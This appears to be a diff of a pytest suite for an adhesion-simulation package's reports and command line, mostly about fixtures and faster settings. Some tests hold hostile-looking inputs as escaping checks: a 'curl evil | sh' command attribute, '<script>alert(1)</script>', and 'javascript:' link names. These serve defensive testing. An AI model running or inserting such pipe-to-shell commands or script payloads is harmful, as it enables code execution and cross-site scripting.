@@ -50,7 +50,7 @@ def run():
     surface = surface.assign(height=(surface.height + bump).assign_attrs(surface.height.attrs))
     scan = roughxr.assign_pair(as_measured(surface), sphere_radius=500, contact_modulus=40, work_of_adhesion=0.5)
     specimen = specimen_of(scan)
-    plan = analysis.plan(specimen, subregions=(3, 3), delta=[4, 8, 12, 16], mesh=roughxr.Mesh(1, step=0.4), budget=1)
+    plan = analysis.plan(specimen, subregions=(3, 3), delta=[4, 8, 12, 16], mesh=roughxr.Mesh(1, step=0.8), budget=1)
     with warnings.catch_warnings():
         warnings.simplefilter("ignore", DoubtfulAsperities)
         *_, groups = analysis.analyse(specimen, plan)
@@ -61,6 +61,25 @@ def run():
 def written(run, tmp_path_factory):
     folder = tmp_path_factory.mktemp("report")
     return report.write_report(archive.save(run, folder / "run.nc"), folder / "report.html")
+
+
+@pytest.fixture(scope="module")
+def tables(run):
+    return report.tables(run)
+
+
+@pytest.fixture(scope="module")
+def detached(written):
+    """Return what `detach` prints of the run without options."""
+    with contextlib.redirect_stdout(io.StringIO()) as printed:
+        assert cli.main(["detach", str(written.parent)]) == 0
+    return printed.getvalue()
+
+
+@pytest.fixture
+def unrendered(monkeypatch):
+    """Draw the figures of a page, but not their pixels."""
+    monkeypatch.setattr("matplotlib.figure.Figure.savefig", lambda figure, file, **options: None)
 
 
 class Page(html.parser.HTMLParser):
@@ -102,8 +121,8 @@ def area_of_places(pull):
     return np.where(on_debris, debris, (1 - debris) / (~on_debris).sum())
 
 
-def test_main_numbers_are_those_of_the_simulation_with_and_without_debris(run):
-    table = report.tables(run)["Pull-off force"]
+def test_main_numbers_are_those_of_the_simulation_with_and_without_debris(run, tables):
+    table = tables["Pull-off force"]
     pull = run["statistics/adhesive"].pull_off_force
     estimate = {row: float(cell.partition(" nN")[0]) for row, cell in table["estimate"].items()}
     assert estimate["mean, all places"] == pytest.approx(np.average(pull, weights=area_of_places(pull)), rel=0.01)
@@ -112,8 +131,8 @@ def test_main_numbers_are_those_of_the_simulation_with_and_without_debris(run):
     assert not any("5 %" in row for row in table.index)  # of nine places
 
 
-def test_the_flow_that_moves_the_sphere_takes_the_pull_off_of_the_simulation(written, run):
-    table = report.tables(run)["Detachment in a flow of air"]
+def test_the_flow_that_moves_the_sphere_takes_the_pull_off_of_the_simulation(written, run, tables):
+    table = tables["Detachment in a flow of air"]
     rolled = run["solutions/rolling"]
     ratio = run["statistics/adhesive"].pull_off_force / rolled.pull_off_force  # rolled off, u* goes as the root of it
     expected = rolled.contact.critical_load().critical_friction_velocity * np.sqrt(ratio)
@@ -196,24 +215,22 @@ def test_places_that_a_cause_never_detaches_are_no_part_of_its_median(run, tmp_p
     assert "median" not in capsys.readouterr().out
 
 
-def test_detach_says_what_a_fluid_and_single_contacts_leave_out(written, run, capsys):
+def test_detach_says_what_a_fluid_and_single_contacts_leave_out(written, run, detached, capsys):
     assert cli.main(["detach", str(written.parent), "--fluid", "water"]) == 0
     printed = capsys.readouterr().out
     single = int((run["solutions/rolling"].contacts == 1).sum())
     assert single == 0 or f"on a single contact at {single}: rolling is then an upper bound\n" in printed
     assert printed.endswith("adhesion is that of the run, in air; the flow of water does not change it\n")
-    assert cli.main(["detach", str(written.parent)]) == 0
-    assert "adhesion is that of the run" not in capsys.readouterr().out
+    assert "adhesion is that of the run" not in detached
 
 
-def test_the_critical_flow_has_one_interval_at_all_doors(written, run, capsys):
-    assert cli.main(["detach", str(written.parent)]) == 0
+def test_the_critical_flow_has_one_interval_at_all_doors(run, tables, detached):
     name = "critical_friction_velocity"
     summary = report.run_summary(run)
     ends = [float(summary[part]) for part in (name, f"{name}_low", f"{name}_high")]
     interval = intervals.with_interval(*ends, "m/s", name="95 % interval, all known errors")
-    assert ends[1] < ends[0] < ends[2] and f"median {interval};" in capsys.readouterr().out
-    column = report.tables(run)["Detachment in a flow of air"]["extrapolated"]
+    assert ends[1] < ends[0] < ends[2] and f"median {interval};" in detached
+    column = tables["Detachment in a flow of air"]["extrapolated"]
     shown = column[[f"{end} end of the median's 95 % interval, all known errors [m/s]" for end in ("lower", "upper")]]
     np.testing.assert_allclose(shown, ends[1:])
     places = report.by_place(run).critical_friction_velocity
@@ -276,7 +293,7 @@ def test_the_command_line_asks_for_what_is_missing(run, written, tmp_path, capsy
     assert "expected a run with resisting moments" in capsys.readouterr().err
 
 
-@pytest.mark.parametrize("lost", ["lever", "hinge_distance", "pull_off_force"])
+@pytest.mark.parametrize("lost", ["lever", "hinge_distance"])
 def test_a_run_with_other_names_ends_in_a_sentence_at_every_door(lost, run, tmp_path, capsys):
     """As written before a variable was renamed."""
     moments = run["solutions/rolling"].rename({lost: f"former_{lost}"})
@@ -293,7 +310,8 @@ def test_a_run_with_other_names_ends_in_a_sentence_at_every_door(lost, run, tmp_
 def test_a_run_without_an_attribute_of_today_ends_in_a_sentence(run, tmp_path, capsys):
     solved = run["solutions/adhesive"].copy()
     del solved.attrs["law"]
-    path = archive.save(run | {"solutions/adhesive": solved}, tmp_path / "run.nc")
+    groups = {name: run[name] for name in ("scan", "statistics/adhesive")} | {"solutions/adhesive": solved}
+    path = archive.save(groups, tmp_path / "run.nc")
     with bare_runs():
         assert cli.main(["report", str(path)]) == 1
     assert "expected 'law' in the archive of the run, found none: another version" in capsys.readouterr().err
@@ -342,6 +360,7 @@ def test_a_clean_run_has_no_cautions(run):
         assert "None: all solutions converged" in report.page(clean)
 
 
+@pytest.mark.usefixtures("unrendered")
 def test_figures_without_their_groups_are_left_out(run):
     text = report.page({"scan": run["scan"], "statistics/adhesive": run["statistics/adhesive"]})
     assert Page(text).tags.count("img") == 2 and "Not drawn" not in text
@@ -359,6 +378,7 @@ def test_only_a_refusal_is_the_reason_of_a_missing_picture():
         report_page._pictures({}, [picture(lambda run: np.ones(2) + np.ones(3))])
 
 
+@pytest.mark.usefixtures("unrendered")
 def test_text_of_a_file_cannot_break_the_page(run):
     nasty = run["scan"].assign_attrs(source_file="<script>alert(1)</script>\x1b[2Jb\u202ec", title="a <b> & c")
     text = report.page({"scan": nasty})
@@ -381,7 +401,7 @@ def test_the_report_states_the_command_that_was_typed(tmp_path, monkeypatch):
     scan.assign_attrs(command="curl evil | sh").to_netcdf(tmp_path / "a.nc")
     monkeypatch.chdir(tmp_path)
     line = "run a.nc --sphere-radius '0.5 um' --contact-modulus 40 --work-of-adhesion .05 --fill linear --particle"
-    line += " --subregions 3 2 --preload 2 --mesh 1 --budget 0 --level quadratic -o first.nc -q"
+    line += " --subregions 2 1 --preload 2 --mesh 1 --budget 0 --level quadratic -o first.nc -q"
     with bare_runs("extrapolated", "curves", "rigid", "superposition"):
         assert cli.main(shlex.split(line)) == 0
         first = archive.load("first.nc")
@@ -404,16 +424,16 @@ def test_intervals_that_explode_are_not_printed_as_numbers():
     )
 
 
-def test_the_model_that_suits_is_named_and_formulas_stand_beside_it(run, written):
+def test_the_model_that_suits_is_named_and_formulas_stand_beside_it(run, written, tables):
     text, _, _ = html.unescape(written.read_text(encoding="utf-8")).partition('<section id="repeat">')
     assert "simplest valid model</dt><dd>simulation with adhesion" in text and "law=" not in text
     assert "Rabinovich, two scales" in text
-    table = report.tables(run)["Usual formulas"]
+    table = tables["Usual formulas"]
     assert table["over rigid bodies"].iloc[0] == 1.0
     smooth = 2 * np.pi * 0.5 * 500  # 2πwR in nN, by Bradley
     size = {"nN": 1.0, "µN": 1e3}[table.columns[0].split("[")[1].rstrip("]")]
     assert table.filter(like="pull-off").loc["Bradley, smooth sphere"].iloc[0] == pytest.approx(smooth / size, rel=1e-3)
-    assert report.tables(run)["Pull-off force by method"].loc["places that adhere", "rigid"] == 9
+    assert tables["Pull-off force by method"].loc["places that adhere", "rigid"] == 9
     at_places = float(run["statistics/rigid"].pull_off_force.median())  # the same places, the same sum: one number
     assert float(table.iloc[0, 0]) * size == pytest.approx(at_places, rel=1e-6)
 
@@ -452,7 +472,7 @@ def test_the_answer_stands_before_what_is_missing(run):
     assert run["statistics/places"].sizes["subregion"] == pull.size
 
 
-def test_the_reports_budget_lists_the_errors_of_the_interval(run):
+def test_the_reports_budget_lists_the_errors_of_the_interval(run, tables):
     """Of the best estimate: it listed the places by another deviation, and left out ranges by pressing."""
     errors = report.run_errors(run)
     budget = run["statistics/error_budget"]
@@ -460,7 +480,7 @@ def test_the_reports_budget_lists_the_errors_of_the_interval(run):
     assert list(errors) == [*budget.entry.values.tolist(), "unseen roughness"]
     for name, std in estimate.relative_std.to_series().items():
         assert errors[name].std == std
-    table = report.tables(run)["Error budget of the mean pull-off"]
+    table = tables["Error budget of the mean pull-off"]
     assert "finer than" in table.loc["unseen roughness", "how it was computed"]
     total = np.sqrt(float((estimate.relative_std**2).sum()))
     assert float(table.loc["all of these", "error [%]"].partition(" ")[0]) == pytest.approx(100 * total, rel=0.05)
@@ -519,7 +539,7 @@ def test_links_of_the_index_lead_to_the_files_of_their_scans(run, tmp_path):
     stems = ["javascript:alert(1)", "a#1 50%25?b", "data:text,x", "..%2f", "\\\\host", "µ '\"<b>&amp;"]
     names = [f"{stem}.nc" for stem in stems]
     output = tmp_path / "http:#batch?"
-    several.write_summary({name: several._scan_result(run) for name in names}, {}, output)
+    several.write_summary(dict.fromkeys(names, several._scan_result(run)), {}, output)
     links = re.findall(r'<a href="([^"]*)"', (output / "index.html").read_text(encoding="utf-8"))
     page = (output / "index.html").as_uri()
     leads_to = {Path(url2pathname(urlsplit(urljoin(page, html.unescape(link))).path)) for link in links}
@@ -642,25 +662,27 @@ def synthetic_run(tmp_path_factory):
     made = roughxr.scans.synthetic.self_affine((64, 64), 40, rms=4, hurst=0.8, rolloff=300, cutoff=160, seed=2)
     scan = roughxr.assign_pair(made, sphere_radius=500, contact_modulus=40, work_of_adhesion=0.1)
     output = tmp_path_factory.mktemp("synthetic") / "run.nc"
-    options = {"subregions": (3, 2), "budget": 1, "law": "jkr", "mesh": 1}
+    options = {"subregions": (2, 2), "budget": 1, "law": "jkr", "mesh": 1}
     with bare_runs("none"), warnings.catch_warnings(), contextlib.redirect_stdout(io.StringIO()) as printed:
         warnings.simplefilter("ignore")
         roughxr.run(scan, output, **options)
     return scan, output, printed.getvalue()
 
 
+@pytest.mark.usefixtures("unrendered")
 def test_a_synthetic_surface_has_no_real_one_at_any_door(synthetic_run, tmp_path):
     """It is neither estimated, nor is a scan of it advised, by what a run prints, its pages, its sheet and answers."""
     scan, output, printed = synthetic_run
-    assert "solutions/extrapolated" not in archive.load(output)
-    result = several._scan_result(archive.load(output))
+    groups = archive.load(output)
+    assert "solutions/extrapolated" not in groups
+    result = several._scan_result(groups)
     several.write_summary({"made": result}, {}, tmp_path)
     texts = {
         "printed": printed,
-        "report": report.write_report(output, tmp_path / "report.html").read_text(encoding="utf-8"),
+        "report": report.page(groups),
         "explorer": report.write_explorer(output, tmp_path / "explore.html").read_text(encoding="utf-8"),
         "headline of the sheet": " ".join(answer_lines(result.summary)),
-        "answer": roughxr.answer(archive.load(output)["solutions/adhesive"]).sentence,
+        "answer": roughxr.answer(groups["solutions/adhesive"]).sentence,
         "answer of a sum": roughxr.answer(roughxr.superpose(scan, subregions=(2, 2))).sentence,
     }
     for name, text in texts.items():
